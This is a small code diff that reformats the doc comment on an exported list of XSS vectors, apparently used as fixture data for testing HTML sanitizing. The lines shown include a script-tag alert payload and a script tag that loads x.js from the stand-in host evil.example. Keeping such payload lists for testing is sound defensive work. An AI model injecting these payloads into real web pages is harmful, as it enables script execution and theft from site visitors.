@@ -1,4 +1,6 @@
-/** Ways in which HTML has run code, from public collections (OWASP, html5sec) and mutation tricks. */
+/**
+ * Ways in which HTML has run code, from public collections (OWASP, html5sec) and mutation tricks.
+ */
 export const XSS_VECTORS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
